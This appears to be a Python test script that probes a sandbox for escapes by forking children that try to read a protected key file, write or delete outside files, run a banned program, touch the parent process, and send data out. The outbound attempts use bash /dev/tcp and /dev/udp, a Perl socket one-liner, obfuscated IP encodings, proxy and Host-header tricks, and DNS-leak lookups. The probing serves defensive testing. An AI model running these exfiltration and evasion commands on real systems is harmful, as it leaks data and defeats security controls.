#!/usr/bin/python3
"""Escapes by python's own ways: probes.py list | run; the protocol is tests/escapes/escape.c's."""
import ctypes
import glob
import mmap
import os
import shutil
import signal
import socket
import subprocess
import sys
import tempfile

KEY, OUT, OTHER = (os.environ.get(n, "") for n in ("ESCAPE_KEY", "ESCAPE_OUT", "ESCAPE_OTHER"))
PORT = int(os.environ.get("ESCAPE_PORT", 0))
PALE = os.getppid()
NAME = ""
DECOY = b"decoy-7c1f"


def out(name):
    return os.path.join(OUT, NAME, name)


def reads(path):
    with open(path, "rb") as f:
        return DECOY in f.read()


def says(*argv, **more):
    return DECOY in subprocess.run(argv, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, timeout=4, **more).stdout


def mapped():
    fd = os.open(KEY, os.O_RDONLY)
    return DECOY in mmap.mmap(fd, 0, prot=mmap.PROT_READ)[:]


def sent():
    r, w = os.pipe()
    os.sendfile(w, os.open(KEY, os.O_RDONLY), 0, 100)
    return DECOY in os.read(r, 100)


def copied():
    shutil.copyfile(KEY, "copy")
    return reads("copy")


def archived():
    subprocess.run(["tar", "-cf", "a.tar", KEY], stderr=subprocess.DEVNULL)
    return reads("a.tar")


def from_thread():
    import threading
    found = []
    t = threading.Thread(target=lambda: found.append(reads(KEY)))
    t.start()
    t.join()
    return bool(found and found[0])


def by_libc():
    libc = ctypes.CDLL(None)
    libc.fopen.restype = ctypes.c_void_p
    f = libc.fopen(KEY.encode(), b"r")
    b = ctypes.create_string_buffer(100)
    return bool(f) and libc.fread(b, 1, 99, ctypes.c_void_p(f)) > 0 and DECOY in b.raw


def by_dlsym():
    """A function of libc fetched past the names that the preload gives."""
    libc = ctypes.CDLL("libc.so.6")
    fd = libc.open(KEY.encode(), 0)
    return fd >= 0 and DECOY in os.read(fd, 100)


def memfd_exec():
    fd = os.memfd_create("x", 0)
    with open("/bin/cat", "rb") as f:
        os.write(fd, f.read())
    return says("/proc/self/fd/%d" % fd, KEY, pass_fds=(fd,), env={})


def spawn_opened():
    """The child's descriptor 0 is opened by posix_spawn itself."""
    r, w = os.pipe()
    pid = os.posix_spawn("/bin/cat", ["cat"], {}, file_actions=[(os.POSIX_SPAWN_OPEN, 0, KEY, os.O_RDONLY, 0),
        (os.POSIX_SPAWN_DUP2, w, 1)])
    os.close(w)
    os.waitpid(pid, 0)
    return DECOY in os.read(r, 100)


def tcp():
    s = socket.create_connection(("127.0.0.1", PORT), 2)
    s.send(NAME.encode())
    return True


def udp():
    return socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(NAME.encode(), ("127.0.0.1", PORT)) > 0


def unix():
    os.chdir(OTHER)
    s = socket.socket(socket.AF_UNIX)
    s.connect("stream")
    s.send(NAME.encode())
    return True


# --- hosts: what came of it the listener knows (target.py) -------------------------------------------------

EVIL = "45.33.32.66"


def calls(host, port=None):
    with socket.create_connection((host, port or PORT), 2) as s:
        s.send(NAME.encode())
    return False


def asks(name):
    try:
        socket.getaddrinfo(name, PORT)
    except socket.gaierror:
        pass
    return False


def fetches(url, **more):
    from urllib.request import ProxyHandler, Request, build_opener
    proxies = more.pop("proxies", {})
    try:
        build_opener(ProxyHandler(proxies)).open(Request(url, **more), timeout=2).read()
    except OSError:
        pass
    return False


def by_asyncio():
    import asyncio

    async def talk():
        _, writer = await asyncio.open_connection(EVIL, PORT)
        writer.write(NAME.encode())
        await writer.drain()

    asyncio.run(asyncio.wait_for(talk(), 2))
    return False


def by_asyncio_datagram():
    import asyncio

    async def talk():
        transport, _ = await asyncio.get_running_loop().create_datagram_endpoint(
            asyncio.DatagramProtocol, remote_addr=(EVIL, PORT))
        transport.sendto(NAME.encode())
        await asyncio.sleep(0.05)

    asyncio.run(asyncio.wait_for(talk(), 2))
    return False


def child(*argv, **env):
    subprocess.run(argv, env={**os.environ, **env}, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=4)
    return False


def by_aliases():
    with open("aliases", "w") as f:
        f.write("good %s.leak.example\n" % NAME)
    return child("getent", "ahosts", "good", HOSTALIASES=os.path.abspath("aliases"))


def by_res_query():
    ctypes.CDLL("libc.so.6").res_query(b"%s.leak.example" % NAME.encode(), 1, 16,
        ctypes.create_string_buffer(4096), 4096)
    return False


def thread_calls():
    import threading
    t = threading.Thread(target=lambda: calls(EVIL))
    t.start()
    t.join()
    return False


PERL = 'use IO::Socket::INET; $s = IO::Socket::INET->new(PeerAddr => $ARGV[0], PeerPort => $ARGV[1], ' \
    'Proto => $ARGV[2]); print $s $ARGV[3]'


def ran(*argv):
    subprocess.run(argv, stderr=subprocess.DEVNULL, timeout=4)
    return os.path.exists("ran")


def done(f, *args, **more):
    f(*args, **more)
    return True


BANNED = os.path.join(OTHER, "escbanned")
PROBES = {
    "py_open": ("1", "SL", "KEY", lambda: reads(KEY)),
    "py_mmap": ("1", "SL", "KEY", mapped),
    "py_sendfile": ("1", "SL", "KEY", sent),
    "py_copyfile": ("1", "SL", "KEY", copied),
    "py_tar": ("1", "SL", "KEY", archived),
    "py_thread": ("1", "SL", "KEY", from_thread),
    "py_fopen": ("1", "SL", "KEY", by_libc),
    "py_dlsym": ("1", "SL", "KEY", by_dlsym),
    "py_memfd": ("28", "SL", "KEY", memfd_exec),
    "py_spawn_opened": ("1", "SL", "KEY", spawn_opened),
    "py_cat": ("1", "SL", "KEY", lambda: says("cat", KEY)),
    "py_busybox_cat": ("2", "SL", "KEY", lambda: says("busybox", "cat", KEY)),
    "py_env_i": ("1", "SL", "KEY", lambda: says("env", "-i", "/bin/cat", KEY)),
    "py_glob": ("1", "SL", "KEY",
        lambda: os.path.basename(KEY) in [os.path.basename(p) for p in glob.glob(os.path.dirname(KEY) + "/*")]),
    "py_write": ("1", "SL", "WRITE", lambda: done(open(out("file"), "a").write, "x")),
    "py_new": ("1", "SL", "WRITE", lambda: done(open, out("new"), "x")),
    "py_makedirs": ("1", "SL", "WRITE", lambda: done(os.makedirs, out("a/b/c"))),
    "py_copytree": ("1", "SL", "WRITE", lambda: done(shutil.copytree, "locked", out("tree"))),
    "py_tempfile": ("1", "SL", "WRITE", lambda: done(tempfile.mkstemp, dir=out("dir"))),
    "py_truncate": ("24", "SL", "WRITE", lambda: done(os.truncate, out("file"), 0)),
    "py_symlink": ("22", "SL", "WRITE", lambda: done(os.symlink, "x", out("new"))),
    "py_link": ("23", "SL", "WRITE", lambda: done(os.link, out("file"), "mine")),
    "py_rmtree": ("22", "SL", "REMOVE", lambda: done(shutil.rmtree, out("sub"))),
    "py_remove": ("22", "SL", "REMOVE", lambda: done(os.remove, out("file"))),
    "py_move": ("22", "SL", "REMOVE", lambda: done(shutil.move, out("file"), "mine")),
    "py_replace": ("22", "SL", "REMOVE", lambda: done(os.replace, out("file"), out("other"))),
    "py_chmod": ("25", "S", "ATTRS", lambda: done(os.chmod, out("file"), 0o777)),
    "py_fchmod": ("25", "S", "ATTRS", lambda: done(os.fchmod, os.open(out("file"), os.O_RDONLY), 0o777)),
    "py_utime": ("25", "S", "ATTRS", lambda: done(os.utime, out("file"))),
    "py_setxattr": ("25", "S", "ATTRS", lambda: done(os.setxattr, out("file"), "user.pale", b"x")),
    "py_chown": ("25", "S", "ATTRS", lambda: done(os.chown, out("file"), os.getuid(), os.getgid())),
    "py_locked": ("51", "S", "FINE", lambda: done(open("locked/file", "w").write, "x")),
    "py_hidden": ("51", "S", "FINE", lambda: reads("hidden/file")),
    "py_kept": ("51", "S", "FINE", lambda: done(os.remove, "kept/file")),
    "py_banned": ("6", "S", "EXEC", lambda: ran(BANNED, "ran")),
    "py_banned_shell": ("6", "S", "EXEC", lambda: ran("sh", "-c", "true; %s ran" % BANNED)),
    "py_banned_xargs": ("6", "S", "EXEC", lambda: ran("sh", "-c", "echo ran | xargs %s" % BANNED)),
    "py_banned_busybox": ("6", "S", "EXEC", lambda: ran("busybox", "env", BANNED, "ran")),
    "py_tcp": ("43", "S", "NET", tcp),
    "py_udp": ("59", "S", "NET", udp),
    "py_unix": ("35", "S", "UNIX", unix),
    "py_kill": ("13", "LF", "PALE", lambda: done(os.kill, PALE, signal.SIGURG)),
    "py_proc_mem": ("12", "L", "PALE", lambda: done(os.open, "/proc/%d/mem" % PALE, os.O_RDONLY)),
    "py_nice": ("14", "F", "PALE",
        lambda: done(os.setpriority, os.PRIO_PROCESS, PALE, os.getpriority(os.PRIO_PROCESS, 0))),
}
# What needs the addresses and names of a network of its own (netprobe.sh).
ALONE = {
    "py_decimal": ("61", "S", "NET", lambda: calls("757145666")),
    "py_hex_number": ("61", "S", "NET", lambda: calls("0x2d212042")),
    "py_hex": ("61", "S", "NET", lambda: calls("0x2d.0x21.0x20.0x42")),
    "py_octal": ("61", "S", "NET", lambda: calls("055.041.040.0102")),
    "py_two_numbers": ("61", "S", "NET", lambda: calls("45.2170946")),
    "py_three_numbers": ("61", "S", "NET", lambda: calls("45.33.8258")),
    "py_mapped": ("61", "S", "NET", lambda: calls("::ffff:" + EVIL)),
    "py_mapped_hex": ("61", "S", "NET", lambda: calls("::ffff:2d21:2042")),
    "py_scope": ("61", "S", "NET", lambda: calls("fe80::66%lo")),
    "py_thread_calls": ("43", "S", "NET", thread_calls),
    "py_asyncio": ("43", "S", "NET", by_asyncio),
    "py_asyncio_datagram": ("59", "S", "NET", by_asyncio_datagram),
    "py_name": ("43", "S", "NET", lambda: calls("host.leak.example")),
    "py_hosts_file": ("43", "S", "NET", lambda: calls("hosts.leak.example")),
    "py_http": ("43", "S", "NET", lambda: fetches("http://hosts.leak.example:%d/%s" % (PORT, NAME))),
    "py_host_header": ("62", "S", "NET",
        lambda: fetches("http://%s:%d/%s" % (EVIL, PORT, NAME), headers={"Host": "good.example"})),
    "py_proxy": ("43", "S", "NET",
        lambda: fetches("http://good.example/" + NAME, proxies={"http": "http://%s:%d" % (EVIL, PORT)})),
    "py_shell": ("43", "S", "NET", lambda: child("bash", "-c", "echo %s >/dev/tcp/%s/%d" % (NAME, EVIL, PORT))),
    "py_shell_datagram": ("59", "S", "NET",
        lambda: child("bash", "-c", "echo %s >/dev/udp/%s/%d" % (NAME, EVIL, PORT))),
    "py_perl": ("43", "S", "NET", lambda: child("perl", "-e", PERL, EVIL, str(PORT), "tcp", NAME)),
    "py_perl_datagram": ("59", "S", "NET", lambda: child("perl", "-e", PERL, EVIL, str(PORT), "udp", NAME)),
    "py_ask": ("56", "S", "NAMES", lambda: asks(NAME + ".leak.example")),
    "py_ask_root": ("56", "S", "NAMES", lambda: asks(NAME + ".leak.example.")),
    "py_ask_case": ("56", "S", "NAMES", lambda: asks(NAME + ".LEAK.Example")),
    "py_ask_wide": ("56", "S", "NAMES", lambda: asks(NAME + ".\uff4c\uff45\uff41\uff4b.example")),
    "py_ask_other_dot": ("56", "S", "NAMES", lambda: asks(NAME + "\u3002leak\uff0eexample")),
    "py_ask_below": ("56", "S", "NAMES", lambda: asks(NAME + ".good.example.leak.example")),
    "py_getent": ("56", "S", "NAMES", lambda: child("getent", "hosts", NAME + ".leak.example")),
    "py_getent_bare": ("56", "S", "NAMES",
        lambda: child("env", "-i", "/usr/bin/getent", "ahosts", NAME + ".leak.example")),
    "py_aliases": ("56", "S", "NAMES", by_aliases),
    "py_search": ("56", "S", "NAMES", lambda: child("getent", "ahosts", NAME, LOCALDOMAIN="leak.example")),
    "py_search_dots": ("56", "S", "NAMES",
        lambda: child("getent", "ahosts", NAME + ".sub", LOCALDOMAIN="leak.example", RES_OPTIONS="ndots:5")),
    "py_by_tcp": ("56", "S", "NAMES", lambda: child("getent", "ahosts", NAME + ".leak.example", RES_OPTIONS="use-vc")),
    "py_res_query": ("56", "S", "NAMES", by_res_query),
}


def attempt(name, probe):
    global NAME
    NAME = name
    os.chdir(name)
    try:
        return 0 if probe() else 1
    except (OSError, ValueError, AttributeError, shutil.Error, subprocess.SubprocessError):
        return 1


def run():
    for name, (_, _, _, probe) in {**PROBES, **ALONE}.items():
        if name in ALONE and "ESCAPE_NET" not in os.environ:
            print(name, "absent")
            continue
        sys.stdout.flush()
        pid = os.fork()
        if pid == 0:
            os._exit(attempt(name, probe))
        status = os.waitpid(pid, 0)[1]
        print(name, "worked" if status == 0 else "stopped")


def main():
    global PALE
    if sys.argv[1:2] == ["list"]:
        for name, (rows, rings, promise, _) in {**PROBES, **ALONE}.items():
            print(name, rows, rings, promise)
        return
    if "PALE_SESSION_DIR" not in os.environ:
        PALE = int(os.environ["ESCAPE_PID"])
    run()


main()
